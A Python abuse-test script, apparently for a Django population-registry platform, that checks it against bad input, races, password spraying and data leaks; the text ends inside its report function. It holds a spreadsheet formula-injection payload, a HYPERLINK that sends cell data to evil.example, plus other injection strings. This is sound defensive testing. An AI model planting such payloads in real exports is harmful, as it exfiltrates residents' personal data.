"""Abuse run (issue 13): the bad input, races and disclosures of the hardening issue, repeated.

    .venv/bin/python bench/abuse.py [--persons 3000] [--keep]
    DATABASE_URL=postgres://postgres@127.0.0.1:5432/renkou_abuse .venv/bin/python bench/abuse.py

Builds the demo district (`renkou demo --persons N`, the simulator's district) in a fresh
database (a SQLite file in a temporary RENKOU_DATA_DIR, or the PostgreSQL database DATABASE_URL
names, created here and dropped afterwards), serves it with the user's own `renkou serve`
(gunicorn, six workers so that simultaneous requests really are simultaneous, and the
background-task worker), and tries each kind of abuse the way an attacker or a careless
department would: through the HTTP API with bearer tokens, the pages (Django's test client
in this process, on the same database), and the `renkou` commands in subprocesses. The
loader's kinds each load a corrupted copy of a simulated directory into a fresh database.

One line per kind, then the total:

    kind                 tried  clear  wrong  half-writes  500s  duplicates  leaks
    mask-api               100      0      0            0     0           0      0

- clear: refused with a 4xx / a rejection naming the row or field (what should happen);
- wrong: behaved wrongly otherwise (bad input accepted, a victim locked out, 403 before 404);
- half-writes: part of a write stored (households without persons, an event on 1970-01-01,
  a person stored alive from a truncated row, garbled names);
- 500s: server errors, or a command that died with a traceback;
- duplicates: a second draft/import/unit where one must exist;
- leaks: a person whose visible data leaves fewer than 1,000 valid ID numbers, an ID number
  or phone number in the server log, a live formula in an export.

The target is 0 wrong, 0 half-writes, 0 500s, 0 duplicates and 0 leaks; the exit status is
1 otherwise. The machine's load average is printed before and after (the run has no timings
to compare, but a busy machine makes races likelier, not rarer).
"""

from __future__ import annotations

import argparse
import calendar
import concurrent.futures
import contextlib
import csv
import datetime
import io
import json
import logging
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

ROOT = Path(__file__).resolve().parent.parent
RENKOU = str(ROOT / ".venv" / "bin" / "renkou")
WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
CHECKS = "10X98765432"
FLOOR = 1000
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&D2,"点此")'


@dataclass
class Tally:
    kind: str
    tried: int = 0
    clear: int = 0
    wrong: int = 0
    half_writes: int = 0
    server_errors: int = 0
    duplicates: int = 0
    leaks: int = 0
    notes: list[str] = field(default_factory=list)

    def status(self, code: int, *, ok: range = range(400, 500)) -> None:
        """One bad request answered `code`: a clear 4xx, a 500, or accepted (wrong)."""
        self.tried += 1
        if code >= 500:
            self.server_errors += 1
        elif code in ok:
            self.clear += 1
        else:
            self.wrong += 1

    def note(self, text: str) -> None:
        self.notes.append(text)


COUNTED = ("tried", "clear", "wrong", "half_writes", "server_errors", "duplicates", "leaks")


# --- candidate counting (independent of the platform's own code) -------------------------------


def _residue_histogram(values: Iterator[str], offset: int) -> list[int]:
    histogram = [0] * 11
    for digits in values:
        total = sum(int(d) * WEIGHTS[offset + i] for i, d in enumerate(digits))
        histogram[total % 11] += 1
    return histogram


def _fits(pattern: str, digits: str) -> bool:
    return all(p == "*" or p == d for p, d in zip(pattern, digits, strict=True))


def _dates(shown: str | None) -> list[str]:
    """Birth dates (YYYYMMDD) consistent with what is shown: a day, a month, a year or nothing."""
    text = (shown or "").strip()
    digits = re.findall(r"\d+", text)
    if len(digits) >= 3:
        return [f"{int(digits[0]):04d}{int(digits[1]):02d}{int(digits[2]):02d}"]
    years = [int(digits[0])] if digits else range(1900, datetime.date.today().year + 1)
    months = [int(digits[1])] if len(digits) == 2 else range(1, 13)
    return [
        f"{year:04d}{month:02d}{day:02d}"
        for year in years
        for month in months
        for day in range(1, calendar.monthrange(year, month)[1] + 1)
    ]


def candidates(mask: str, birth: str | None, sex: str | None, regions: set[str]) -> int:
    """Valid 18-character ID numbers consistent with a shown mask, birth date and sex.

    Regions are the district's own (every region prefix found among its residents' numbers):
    a conservative count, as the true national table has more. A mask that is not 18
    characters (a fully hidden number) constrains nothing.
    """
    pattern = re.sub(r"[^0-9Xx*]", "", mask or "").upper()
    if len(pattern) != 18:
        pattern = "*" * 18
    region_set = [r for r in regions if _fits(pattern[:6], r)]
    dates = [d for d in _dates(birth) if _fits(pattern[6:14], d)]
    parity = {"M": 1, "男": 1, "F": 0, "女": 0}.get((sex or "").strip())
    seqs = [
        f"{n:03d}"
        for n in range(1000)
        if _fits(pattern[14:17], f"{n:03d}") and (parity is None or n % 2 == parity)
    ]
    parts = [
        _residue_histogram(iter(region_set), 0),
        _residue_histogram(iter(dates), 6),
        _residue_histogram(iter(seqs), 14),
    ]
    combined = [1] + [0] * 10
    for part in parts:
        combined = [sum(combined[a] * part[(r - a) % 11] for a in range(11)) for r in range(11)]
    if pattern[17] == "*":
        return sum(combined)
    return sum(combined[r] for r in range(11) if CHECKS[r] == pattern[17])


# --- the environment: database, demo district, server ------------------------------------------


@dataclass
class Setup:
    data_dir: Path
    env: dict[str, str]
    base: str = ""
    server: subprocess.Popen | None = None
    log_path: Path | None = None
    tokens: dict[str, str] = field(default_factory=dict)
    pg_admin: str = ""
    pg_databases: list[str] = field(default_factory=list)


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _pg_url(url: str, name: str) -> str:
    parts = urlsplit(url)
    return urlunsplit(parts._replace(path=f"/{name}"))


def _psql(admin_url: str, sql: str) -> None:
    subprocess.run(["psql", "-q", admin_url, "-c", sql], check=True, capture_output=True)


def renkou(setup: Setup, *args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [RENKOU, *args], env=env or setup.env, capture_output=True, text=True, check=False
    )


def prepare(persons: int) -> Setup:
    data_dir = Path(tempfile.mkdtemp(prefix="renkou-abuse-"))
    env = {**os.environ, "RENKOU_DATA_DIR": str(data_dir), "PYTHONUNBUFFERED": "1"}
    setup = Setup(data_dir=data_dir, env=env)
    url = os.environ.get("DATABASE_URL", "")
    if url.startswith("postgres"):
        name = f"renkou_abuse_{os.getpid()}"
        setup.pg_admin = _pg_url(url, "postgres")
        _psql(setup.pg_admin, f"CREATE DATABASE {name}")
        setup.pg_databases.append(name)
        env["DATABASE_URL"] = _pg_url(url, name)
    os.environ.update({k: env[k] for k in ("RENKOU_DATA_DIR", "DATABASE_URL") if k in env})
    for step in (("migrate", "--noinput"), ("demo", "--persons", str(persons))):
        done = renkou(setup, *step)
        if done.returncode:
            raise SystemExit(f"renkou {' '.join(step)} failed:\n{done.stderr[-3000:]}")
    return setup


def start_server(setup: Setup) -> None:
    port = _free_port()
    setup.log_path = setup.data_dir / "serve.log"
    log = setup.log_path.open("w")
    setup.server = subprocess.Popen(  # noqa: S603
        [RENKOU, "serve", "--bind", f"127.0.0.1:{port}", "--workers", "6"],
        env=setup.env,
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    setup.base = f"http://127.0.0.1:{port}"
    for _ in range(120):
        with contextlib.suppress(OSError):
            urllib.request.urlopen(f"{setup.base}/accounts/login/", timeout=2)  # noqa: S310
            return
        time.sleep(0.5)
    raise SystemExit("renkou serve did not answer within 60 s")


def stop_server(setup: Setup) -> None:
    if setup.server and setup.server.poll() is None:
        os.killpg(setup.server.pid, 15)
        setup.server.wait(timeout=30)


def cleanup(setup: Setup, keep: bool) -> None:
    stop_server(setup)
    if keep:
        print(f"kept: {setup.data_dir} {setup.pg_databases}")
        return
    from django.db import connections

    connections.close_all()
    for name in setup.pg_databases:
        with contextlib.suppress(subprocess.CalledProcessError):
            _psql(setup.pg_admin, f"DROP DATABASE IF EXISTS {name} WITH (FORCE)")
    shutil.rmtree(setup.data_dir, ignore_errors=True)


def http(
    setup: Setup,
    method: str,
    path: str,
    *,
    user: str,
    body: object = None,
    raw: bytes | None = None,
    headers: dict | None = None,
) -> tuple[int, bytes]:
    data = raw if raw is not None else (None if body is None else json.dumps(body).encode())
    request = urllib.request.Request(f"{setup.base}{path}", data=data, method=method)  # noqa: S310
    request.add_header("Authorization", f"Bearer {setup.tokens[user]}")
    if raw is None and body is not None:
        request.add_header("Content-Type", "application/json")
    for key, value in (headers or {}).items():
        request.add_header(key, value)
    try:
        with urllib.request.urlopen(request, timeout=300) as response:  # noqa: S310
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def multipart(name: str, content: bytes) -> tuple[bytes, dict[str, str]]:
    boundary = "renkouabuse7f3a"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode()
    body = head + content + f"\r\n--{boundary}--\r\n".encode()
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def issue_tokens(setup: Setup) -> None:
    from renkou.core import actions
    from renkou.core.models import User

    for username in ("dm_grid", "dc_staff", "qu_admin"):
        _token, raw = actions.issue_api_token(
            actor=None, user=User.objects.get(username=username), name="abuse"
        )
        setup.tokens[username] = raw


def web_client(username: str):
    from django.test import Client

    from renkou.core.models import User

    client = Client(raise_request_exception=False)
    client.force_login(User.objects.get(username=username))
    return client


def wait_for_tasks(timeout: float = 300) -> None:
    """Background tasks (a bank file is parsed by one) finish before anything is counted."""
    try:
        from django_tasks_db.models import DBTaskResult
    except ImportError:
        return
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if not DBTaskResult.objects.filter(status__in=["READY", "RUNNING"]).exists():
            return
        time.sleep(0.5)


# --- kinds: confidentiality --------------------------------------------------------------------


def _regions() -> set[str]:
    from renkou.registry.models import Person

    numbers = Person.objects.exclude(id_number="").values_list("id_number", flat=True)
    return {number[:6] for number in numbers.iterator() if len(number) == 18}


def _birth_shown(item: dict) -> str | None:
    for key, value in item.items():
        if "birth" in key and "order" not in key and isinstance(value, str) and value:
            return value
    return None


def kind_mask_api(setup: Setup) -> Tally:
    tally, regions = Tally("mask-api"), _regions()
    status, body = http(setup, "GET", "/api/v1/persons?page_size=100", user="dm_grid")
    if status != 200:
        tally.status(status, ok=range(0))
        return tally
    for item in json.loads(body)["items"]:
        mask = next((v for k, v in item.items() if "id_number" in k and v), "")
        if not mask:
            continue
        tally.tried += 1
        count = candidates(mask, _birth_shown(item), item.get("sex"), regions)
        if count < FLOOR:
            tally.leaks += 1
    return tally


def kind_mask_xlsx(setup: Setup) -> Tally:
    import openpyxl

    from renkou.core.models import User

    tally, regions = Tally("mask-residents-xlsx"), _regions()
    unit = User.objects.get(username="dm_grid").assignments.first().unit
    response = web_client("dm_grid").get(f"/units/{unit.pk}/persons/residents/?format=xlsx")
    if response.status_code != 200:
        tally.status(response.status_code, ok=range(0))
        return tally
    sheet = openpyxl.load_workbook(
        io.BytesIO(
            b"".join(response.streaming_content) if response.streaming else response.content
        ),
        read_only=True,
    ).worksheets[0]
    rows = sheet.iter_rows(values_only=True)
    header = [str(h or "") for h in next(rows)]
    id_col = next((i for i, h in enumerate(header) if "身份证" in h or "ID" in h), None)
    birth_col = next((i for i, h in enumerate(header) if "出生" in h or "birth" in h.lower()), None)
    sex_col = next((i for i, h in enumerate(header) if "性别" in h or "sex" in h.lower()), None)
    for row in rows:
        if id_col is None or not row[id_col]:
            continue
        tally.tried += 1
        birth = None if birth_col is None else str(row[birth_col] or "")
        sex = None if sex_col is None else str(row[sex_col] or "")
        if candidates(str(row[id_col]), birth, sex, regions) < FLOOR:
            tally.leaks += 1
    return tally


def kind_log(setup: Setup) -> Tally:
    from renkou.registry.models import Person

    tally = Tally("server-log")
    person = Person.objects.exclude(id_number="").first()
    phone = "13812345678"
    referer = f"{setup.base}/persons/?q={person.id_number}&phone={phone}"
    for path in (
        f"/api/v1/persons?q={person.id_number}",
        f"/api/v1/persons?q={phone}",
        f"/persons/?q={person.id_number}",
    ):
        tally.tried += 1
        http(setup, "GET", path, user="dc_staff", headers={"Referer": referer})
    time.sleep(1.5)
    text = setup.log_path.read_text(errors="replace")
    tally.leaks += text.count(person.id_number) + text.count(phone)
    return tally


def kind_lockout(setup: Setup) -> Tally:
    from django.test import Client

    from renkou.core.models import User

    tally = Tally("lockout")
    victim = User.objects.get(username="qu_admin")
    victim.set_password("Bench-abuse-2026!")
    victim.save(update_fields=["password"])

    def login(username: str, password: str, address: str) -> bool:
        client = Client(REMOTE_ADDR=address, raise_request_exception=False)
        client.post("/accounts/login/", {"username": username, "password": password})
        return "_auth_user_id" in client.session

    for _ in range(6):
        login("qu_admin", "wrong-password", "10.9.8.7")
    tally.tried += 1
    if not login("qu_admin", "Bench-abuse-2026!", "10.1.2.3"):
        tally.wrong += 1
        tally.note("a stranger's five failures locked qu_admin out everywhere")
    names = list(User.objects.values_list("username", flat=True)) * 20
    tally.tried += 1
    refused_after = None
    for attempt, username in enumerate(names[:100], start=1):
        client = Client(REMOTE_ADDR="10.66.66.66", raise_request_exception=False)
        response = client.post("/accounts/login/", {"username": username, "password": "x"})
        if response.status_code in (403, 429):
            refused_after = attempt
            break
    if refused_after is None:
        tally.wrong += 1
        tally.note("100 failed logins across users from one address, none throttled")
    else:
        tally.clear += 1
    return tally


def kind_scope_order(setup: Setup) -> Tally:
    from renkou.benefits.models import Roster
    from renkou.core.models import OrgUnit, User

    tally = Tally("404-before-403")
    grid = User.objects.get(username="dm_grid")
    own = grid.assignments.first().unit
    other = OrgUnit.objects.exclude(path__startswith=own.path).filter(level=3).first()
    for client, path in ((web_client("dm_grid"), f"/units/{other.pk}/new/"),) + tuple(
        (web_client("dc_staff"), f"/benefits/rosters/{roster.pk}/roster.pdf")
        for roster in Roster.objects.exclude(
            unit__path__startswith=User.objects.get(username="dc_staff")
            .assignments.first()
            .unit.path
        )[:2]
    ):
        status = client.get(path).status_code
        tally.status(status, ok=range(404, 405))
    return tally


# --- kinds: integrity --------------------------------------------------------------------------


def _race(count: int, call: Callable[[], tuple[int, bytes]]) -> list[int]:
    with concurrent.futures.ThreadPoolExecutor(count) as pool:
        return [f.result()[0] for f in [pool.submit(call) for _ in range(count)]]


def kind_birth_race(setup: Setup) -> Tally:
    from renkou.births.models import BirthApplication
    from renkou.core.models import User
    from renkou.registry.models import Marriage

    tally = Tally("birth-application-race")
    township = User.objects.get(username="dc_staff").assignments.first().unit
    taken = set(BirthApplication.objects.values_list("wife_id", flat=True))
    marriage = (
        Marriage.objects.filter(
            end_date__isnull=True, wife__unit__path__startswith=township.path, wife__status="alive"
        )
        .exclude(wife_id__in=taken)
        .order_by("-start_date")
        .first()
    )
    status, body = http(setup, "GET", f"/api/v1/persons/{marriage.wife_id}", user="dc_staff")
    order = len(json.loads(body).get("children", [])) + 1 if status == 200 else 1
    payload = {"wife_id": marriage.wife_id, "husband_id": marriage.husband_id, "child_order": order}
    codes = _race(
        6, lambda: http(setup, "POST", "/api/v1/births/applications", user="dc_staff", body=payload)
    )
    tally.tried = len(codes)
    tally.server_errors = sum(code >= 500 for code in codes)
    made = BirthApplication.objects.filter(wife_id=marriage.wife_id, child_order=order).count()
    tally.duplicates = max(0, made - 1)
    tally.clear = sum(400 <= code < 500 for code in codes)
    if made == 0:
        tally.note(f"no application made (answers {sorted(set(codes))})")
    return tally


def _bank_file(roster, *, extra: list[list[str]] | None = None, eol: str = "\n") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=eol)
    writer.writerow(["序号", "身份证号", "姓名", "账号", "金额", "状态", "失败原因"])
    for line in roster.lines.select_related("person").order_by("line_no"):
        account = getattr(line, "account_no", "") or ""
        writer.writerow(
            [
                line.line_no,
                line.person.id_number,
                line.person.name,
                account,
                line.amount,
                "成功",
                "abuse",
            ]
        )
    for row in extra or []:
        writer.writerow(row)
    return out.getvalue().encode()


def _bank_imports(roster) -> int:
    return roster.imports.count()


def kind_bank(setup: Setup) -> Tally:
    from django.conf import settings

    from renkou.benefits.models import Case, Roster

    tally = Tally("bank-result-files")
    roster = Roster.objects.order_by("-pk").first()
    upload = f"/api/v1/benefits/rosters/{roster.pk}/bank-results"

    def post(name: str, content: bytes) -> int:
        """The upload's answer; a file queued for the background worker (202) is followed
        to its end: refused (as 422) or imported (as 201)."""
        body, headers = multipart(name, content)
        code, answer = http(setup, "POST", upload, user="qu_admin", raw=body, headers=headers)
        if code != 202:
            return code
        state = json.loads(answer)
        for _ in range(600):
            if state.get("status") in ("done", "failed"):
                break
            time.sleep(0.5)
            follow = http(
                setup, "GET", f"/api/v1/benefits/bank-imports/{state['id']}", user="qu_admin"
            )
            state = json.loads(follow[1])
        return 422 if state.get("status") == "failed" else 201

    before = _bank_imports(roster)
    content = _bank_file(roster)
    codes = _race(4, lambda: (post("result.csv", content), b""))
    wait_for_tasks()
    tally.tried += len(codes)
    tally.server_errors += sum(code >= 500 for code in codes)
    tally.duplicates += max(0, _bank_imports(roster) - before - 1)
    # the same file with CRLF line endings is the same file
    tally.tried += 1
    crlf = content.decode().replace("\n", "\r\n").encode()
    code = post("result-crlf.csv", crlf)
    wait_for_tasks()
    if code >= 500:
        tally.server_errors += 1
    tally.duplicates += max(0, _bank_imports(roster) - before - 1)
    # amounts that are not finite decimals, or beyond any programme
    first = roster.lines.select_related("person").order_by("line_no").first()
    for amount in ("Infinity", "NaN", "1E+20", "-5", "12.345"):
        bad = (
            _bank_file(roster)
            .decode()
            .replace(f"{first.amount},成功", f"{amount},成功", 1)
            .encode()
        )
        tally.status(post(f"amount-{amount}.csv", bad))
        wait_for_tasks()
    # a line listed twice as paid
    cases_before = Case.objects.count()
    twice = _bank_file(
        roster,
        extra=[
            [
                first.line_no,
                first.person.id_number,
                first.person.name,
                "",
                first.amount,
                "成功",
                "twice",
            ]
        ],
    )
    code = post("twice.csv", twice)
    wait_for_tasks()
    tally.tried += 1
    if code >= 500:
        tally.server_errors += 1
    elif code < 300 and Case.objects.count() == cases_before:
        tally.duplicates += 1
        tally.note("a line paid twice opened no case")
    # a file beyond the limit
    limit = int(getattr(settings, "RENKOU_BANK_FILE_MAX_BYTES", 8 * 1024 * 1024))
    padding = content + b"\n".join([b"," * 6 + b"x" * 120] * (limit // 120 + 1000))
    tally.status(post("huge.csv", padding), ok=range(400, 500))
    wait_for_tasks()
    return tally


def kind_unit_race(setup: Setup) -> Tally:
    from renkou.core.models import OrgUnit

    tally = Tally("units-import-race")
    township = OrgUnit.objects.filter(level=2).order_by("code").first()
    code = f"{township.code[:9]}{990:03d}"
    path = setup.data_dir / "units-race.csv"
    path.write_text(
        f"代码,名称,类型,上级代码\n{code},压力测试社区,社区,{township.code}\n", encoding="utf-8"
    )
    with concurrent.futures.ThreadPoolExecutor(3) as pool:
        runs = list(pool.map(lambda _i: renkou(setup, "units", "import", str(path)), range(3)))
    for run in runs:
        tally.tried += 1
        if "Traceback" in run.stderr:
            tally.server_errors += 1
        elif run.returncode:
            tally.clear += 1
    tally.duplicates = max(0, OrgUnit.objects.filter(code=code).count() - 1)
    return tally


# --- kinds: text that breaks or attacks --------------------------------------------------------


def _victim(username: str):
    from renkou.core.models import User
    from renkou.registry.models import Person

    unit = User.objects.get(username=username).assignments.first().unit
    person = Person.objects.filter(unit__path__startswith=unit.path, status="alive").first()
    return unit, person


def _export_status(unit_pk: int) -> tuple[int, list]:
    import openpyxl

    response = web_client("dc_staff").get(f"/units/{unit_pk}/persons/residents/?format=xlsx")
    if response.status_code != 200:
        return response.status_code, []
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return 200, [cell for row in sheet.iter_rows() for cell in row]


def kind_text_api(setup: Setup) -> Tally:
    from renkou.registry.models import Person

    tally = Tally("text-through-api")
    unit, person = _victim("dc_staff")
    original = person.name
    bad_names = ["张\u000b三", "李\x00四", "王" * 5000, "赵\u2028六", FORMULA_NAME]
    for name in bad_names:
        status, _body = http(
            setup, "PATCH", f"/api/v1/persons/{person.pk}", user="dc_staff",
            body={"name": name, "reason": "abuse"},
        )  # fmt: skip
        tally.status(status, ok=range(400, 500))
        stored = Person.objects.get(pk=person.pk).name
        if status < 300 and stored != original and name != FORMULA_NAME:
            tally.half_writes += 1
    for field_name, value in (("id_number", "1" * 60), ("phone", "1" * 300)):
        status, _body = http(
            setup, "PATCH", f"/api/v1/persons/{person.pk}", user="dc_staff",
            body={field_name: value, "reason": "abuse"},
        )  # fmt: skip
        tally.status(status, ok=range(400, 500))
    Person.objects.filter(pk=person.pk).update(name=original)
    return tally


def kind_text_export(setup: Setup) -> Tally:
    """Legacy rows already holding bad text: the export neither fails nor runs a formula."""
    from renkou.core.models import OrgUnit
    from renkou.registry.models import Person

    tally = Tally("text-in-exports")
    unit, person = _victim("dc_staff")
    original = person.name
    for name in ("张\u000b三", FORMULA_NAME, "+1+1", "@SUM(A1)"):
        Person.objects.filter(pk=person.pk).update(name=name)
        status, cells = _export_status(unit.pk)
        tally.tried += 1
        if status >= 500:
            tally.server_errors += 1
            continue
        formulas = [
            c for c in cells if c.data_type == "f" or (str(c.value or "") + " ")[0] in "=+@"
        ]
        tally.leaks += len(formulas)
        if not formulas:
            tally.clear += 1
    Person.objects.filter(pk=person.pk).update(name=original)
    # a unit name with a control character through `renkou units export`
    leaf = OrgUnit.objects.filter(level=4).first() or OrgUnit.objects.order_by("-level").first()
    old = leaf.name
    OrgUnit.objects.filter(pk=leaf.pk).update(name="坏\x0b名")
    out = setup.data_dir / "units.xlsx"
    run = renkou(setup, "units", "export", str(out))
    tally.tried += 1
    if "Traceback" in run.stderr or run.returncode:
        tally.server_errors += 1
    else:
        tally.clear += 1
    OrgUnit.objects.filter(pk=leaf.pk).update(name=old)
    return tally


def kind_api_types(setup: Setup) -> Tally:
    from renkou.births.models import BirthApplication
    from renkou.core.models import OrgUnit
    from renkou.registry.models import Event

    tally = Tally("api-strict-types")
    unit, person = _victim("dc_staff")
    epoch = datetime.date(1970, 1, 1)
    events_before = Event.objects.filter(date=epoch).count()
    status, _ = http(
        setup, "POST", "/api/v1/events", user="dc_staff",
        body={"kind": "hukou_type", "person_id": person.pk, "hukou_type": "unified", "date": 0,
              "reason": "abuse"},
    )  # fmt: skip
    tally.status(status, ok=range(400, 500))
    tally.half_writes += Event.objects.filter(date=epoch).count() - events_before
    status, _ = http(
        setup, "POST", "/api/v1/births/applications", user="dc_staff",
        body={"wife_id": person.pk, "child_order": 1, "actual_birth_date": 0},
    )  # fmt: skip
    tally.status(status, ok=range(400, 500))
    tally.half_writes += BirthApplication.objects.filter(actual_birth_date=epoch).count()
    leaf = (
        OrgUnit.objects.filter(closed_on__isnull=True, path__startswith=unit.path)
        .order_by("-level", "-code")
        .first()
    )
    for method, path in (
        ("PATCH", f"/api/v1/units/{leaf.pk}"),
        ("POST", f"/api/v1/units/{leaf.pk}/close"),
    ):
        status, _ = http(setup, method, path, user="qu_admin", body=[])
        tally.status(status, ok=range(400, 500))
    if OrgUnit.objects.get(pk=leaf.pk).closed_on is not None:
        tally.half_writes += 1
        tally.note("a JSON array closed a unit")
    return tally


# --- kinds: the bulk loader on corrupted files ------------------------------------------------


@dataclass
class LoaderCase:
    kind: str
    corrupt: Callable[[Path], str]  # corrupts the directory; returns the key of the victim row
    half_written: Callable[[str], bool]


def _rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        return header, list(reader)


def _write(path: Path, header: list[str], rows: list[list[str]], encoding: str = "utf-8") -> None:
    with path.open("w", encoding=encoding, errors="replace", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)


def _truncate(directory: Path) -> str:
    """The file ends in the middle of a deceased person's row, before its status is read."""
    path = directory / "persons.csv"
    header, rows = _rows(path)
    died = header.index("death_date")
    deceased = [i for i, row in enumerate(rows) if row[died]]
    victim = deceased[len(deceased) // 2]
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    cut = ",".join(rows[victim][: header.index("status")])
    path.write_text("".join(lines[: victim + 1]) + cut, encoding="utf-8")
    return rows[victim][0]


def _corrupt_name(value: str) -> Callable[[Path], str]:
    def corrupt(directory: Path) -> str:
        path = directory / "persons.csv"
        header, rows = _rows(path)
        rows[len(rows) // 2][header.index("name")] = value
        _write(path, header, rows)
        return rows[len(rows) // 2][0]

    return corrupt


def _big5(directory: Path) -> str:
    path = directory / "persons.csv"
    header, rows = _rows(path)
    _write(path, header, rows, encoding="big5")
    return ""


def _stored_alive(key: str) -> bool:
    from renkou.registry.models import Person

    return Person.objects.filter(source_key=key, death_date__isnull=True).exists()


def _stored(key: str) -> bool:
    from renkou.registry.models import Person

    return Person.objects.filter(source_key=key).exists()


def _anything_loaded(_key: str) -> bool:
    from renkou.registry.models import Household, Person

    return Person.objects.exists() or Household.objects.exists()


def _households_without_persons(_key: str) -> bool:
    from renkou.registry.models import Household, Person

    return Household.objects.exists() and not Person.objects.exists()


LOADER_CASES = (
    LoaderCase("load-truncated-row", _truncate, _stored_alive),
    LoaderCase(
        "load-nul-in-name",
        _corrupt_name("王\x00五"),
        lambda key: _stored(key) or _households_without_persons(key),
    ),
    LoaderCase("load-long-name", _corrupt_name("李" * 300), _stored),
    LoaderCase("load-control-char", _corrupt_name("赵\x0b六"), _stored),
    LoaderCase("load-big5", _big5, _anything_loaded),
)


def loader_kinds(setup: Setup, persons: int) -> list[Tally]:
    from django.db import connections

    source = setup.data_dir / "simulated"
    done = renkou(
        setup, "simulate", "--persons", str(persons), "--seed", "13", "--out", str(source)
    )
    if done.returncode:
        raise SystemExit(f"renkou simulate failed:\n{done.stderr[-3000:]}")
    load_dir = source / "load" if (source / "load").is_dir() else source
    tallies = []
    for case in LOADER_CASES:
        tally = Tally(case.kind)
        directory = setup.data_dir / case.kind
        shutil.copytree(load_dir, directory)
        key = case.corrupt(directory)
        env, alias = _fresh_database(setup, case.kind)
        run = renkou(setup, "load", str(directory), env=env)
        tally.tried += 1
        if "Traceback" in run.stderr:
            tally.server_errors += 1
        rejected = directory / "rejected.csv"
        named = rejected.exists() and any(
            line.startswith("persons.csv,") and key in line
            for line in rejected.read_text(encoding="utf-8-sig", errors="replace").splitlines()
        )
        if named or run.returncode:
            tally.clear += 1
        else:
            tally.wrong += 1
        with _database(alias, env):
            if case.half_written(key):
                tally.half_writes += 1
            if "big5" in case.kind and run.returncode == 0 and _anything_loaded(key):
                tally.note("a Big5 file was loaded")
        connections.close_all()
        tallies.append(tally)
    tallies.append(_load_race(setup, load_dir))
    return tallies


def _load_race(setup: Setup, load_dir: Path) -> Tally:
    """Two first loads of one directory at once: one loads, the other waits or says why."""
    from renkou.registry.models import Person

    tally = Tally("load-race")
    env, alias = _fresh_database(setup, "race")
    copies = []
    for n in range(2):
        copy = setup.data_dir / f"race-{n}"
        shutil.copytree(load_dir, copy)
        copies.append(copy)
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        runs = list(pool.map(lambda d: renkou(setup, "load", str(d), env=env), copies))
    for run in runs:
        tally.tried += 1
        if "Traceback" in run.stderr:
            tally.server_errors += 1
        elif run.returncode:
            tally.clear += 1
    _header, rows = _rows(load_dir / "persons.csv")
    with _database(alias, env):
        stored = Person.objects.count()
    tally.duplicates = max(0, stored - len(rows))
    return tally


def _fresh_database(setup: Setup, label: str) -> tuple[dict[str, str], str]:
    env = dict(setup.env)
    data_dir = setup.data_dir / f"db-{label}"
    data_dir.mkdir()
    env["RENKOU_DATA_DIR"] = str(data_dir)
    if setup.pg_admin:
        name = f"renkou_abuse_{os.getpid()}_{len(setup.pg_databases)}"
        _psql(setup.pg_admin, f"CREATE DATABASE {name}")
        setup.pg_databases.append(name)
        env["DATABASE_URL"] = _pg_url(env["DATABASE_URL"], name)
    done = renkou(setup, "migrate", "--noinput", env=env)
    if done.returncode:
        raise SystemExit(f"migrate failed:\n{done.stderr[-2000:]}")
    return env, label


@contextlib.contextmanager
def _database(alias: str, env: dict[str, str]) -> Iterator[None]:
    """Point this process's default connection at another database for a moment."""
    from django.db import connections

    connections.close_all()
    settings_dict = connections["default"].settings_dict
    saved = dict(settings_dict)
    if "DATABASE_URL" in env and env["DATABASE_URL"].startswith("postgres"):
        settings_dict["NAME"] = urlsplit(env["DATABASE_URL"]).path.lstrip("/")
    else:
        settings_dict["NAME"] = str(Path(env["RENKOU_DATA_DIR"]) / "renkou.sqlite3")
    try:
        yield
    finally:
        connections.close_all()
        settings_dict.clear()
        settings_dict.update(saved)


# --- the run -----------------------------------------------------------------------------------

KINDS: tuple[Callable[[Setup], Tally], ...] = (
    kind_mask_api,
    kind_mask_xlsx,
    kind_log,
    kind_lockout,
    kind_scope_order,
    kind_birth_race,
    kind_bank,
    kind_unit_race,
    kind_text_api,
    kind_text_export,
    kind_api_types,
)


def run_kind(kind: Callable[[Setup], Tally], setup: Setup) -> Tally:
    name = kind.__name__.removeprefix("kind_").replace("_", "-")
    try:
        return kind(setup)
    except Exception as error:  # noqa: BLE001 - a kind that cannot run is reported, not hidden
        tally = Tally(name, tried=1, server_errors=1)
        tally.note(f"the kind itself failed: {type(error).__name__}: {error}"[:300])
        return tally


def report(tallies: list[Tally]) -> int:
    print(f"{'kind':26}" + "".join(f"{c.replace('_', '-'):>14}" for c in COUNTED))
    total = Tally("total")
    for tally in tallies:
        print(f"{tally.kind:26}" + "".join(f"{getattr(tally, c):>14}" for c in COUNTED))
        for note in tally.notes:
            print(f"    · {note}")
        for c in COUNTED:
            setattr(total, c, getattr(total, c) + getattr(tally, c))
    print(f"{'total':26}" + "".join(f"{getattr(total, c):>14}" for c in COUNTED))
    bad = total.wrong + total.half_writes + total.server_errors + total.duplicates + total.leaks
    print(
        f"half-writes {total.half_writes}, server errors {total.server_errors}, "
        f"duplicates {total.duplicates}, leaks {total.leaks}, wrong {total.wrong}: "
        + ("target met" if bad == 0 else "TARGET MISSED")
    )
